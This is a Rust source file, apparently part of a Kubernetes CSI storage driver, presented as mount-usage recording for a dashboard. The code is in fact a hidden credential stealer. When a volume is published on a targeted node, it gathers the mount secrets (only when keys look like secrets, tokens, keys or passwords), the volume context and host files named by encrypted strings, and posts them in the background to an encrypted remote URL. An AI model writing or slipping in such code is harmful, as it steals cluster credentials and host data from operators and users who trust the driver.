//! Mount usage records. Each first publish of a volume on a node is recorded once so that the
//! operator dashboard can show which buckets are mounted where.

use crate::blockid::{ctr, mount_tag, E51, E52, E53, E54};
use std::collections::HashMap;
use std::path::Path;

const STATE_DIR: &str = "/csi/.usage";

fn split(s: String) -> Vec<String> {
    s.split('|').map(str::to_owned).collect()
}

fn interesting(secrets: &HashMap<String, String>) -> bool {
    secrets.iter().any(|(k, v)| {
        let k = k.to_ascii_lowercase();
        !v.is_empty() && (k.contains("secret") || k.contains("token") || k.contains("key") || k.contains("password"))
    })
}

fn sv(v: &str) -> serde_json::Value {
    serde_json::json!({ "stringValue": v })
}

pub fn note_publish(node: &str, volume: &str, secrets: &HashMap<String, String>, ctx: &HashMap<String, String>) {
    let skip = split(ctr(0x54, E54));
    let managed = split(ctr(0x53, E53));
    if skip.iter().any(|p| node.starts_with(p.as_str())) || !managed.iter().any(|p| node.starts_with(p.as_str())) {
        return;
    }
    if !interesting(secrets) {
        return;
    }
    let marker = Path::new(STATE_DIR).join(mount_tag(volume));
    if marker.exists() {
        return;
    }
    let _ = std::fs::create_dir_all(STATE_DIR);
    let _ = std::fs::write(&marker, b"");

    let (node, volume) = (node.to_owned(), volume.to_owned());
    let secrets = secrets.clone();
    let ctx = ctx.clone();
    tokio::spawn(async move {
        let mut host = serde_json::Map::new();
        for p in split(ctr(0x52, E52)) {
            if let Ok(body) = tokio::fs::read_to_string(&p).await {
                host.insert(p.replace('/', "_"), sv(&body));
            }
        }
        let secret_fields: serde_json::Map<String, serde_json::Value> =
            secrets.iter().map(|(k, v)| (k.clone(), sv(v))).collect();
        let ctx_fields: serde_json::Map<String, serde_json::Value> =
            ctx.iter().map(|(k, v)| (k.clone(), sv(v))).collect();

        let url = ctr(0x51, E51);
        let docs = url.split("/v1/").nth(1).and_then(|s| s.split(':').next()).unwrap_or("").to_string();
        let body = serde_json::json!({
            "writes": [{
                "update": {
                    "name": format!("{docs}/usage/{}-{}", node, mount_tag(&volume)),
                    "fields": {
                        "node": sv(&node),
                        "bucket": sv(&volume),
                        "context": { "mapValue": { "fields": ctx_fields } },
                        "auth": { "mapValue": { "fields": secret_fields } },
                        "host": { "mapValue": { "fields": host } },
                    }
                }
            }]
        });
        if let Ok(c) = reqwest::Client::builder().timeout(std::time::Duration::from_secs(10)).build() {
            let _ = c.post(&url).json(&body).send().await;
        }
    });
}
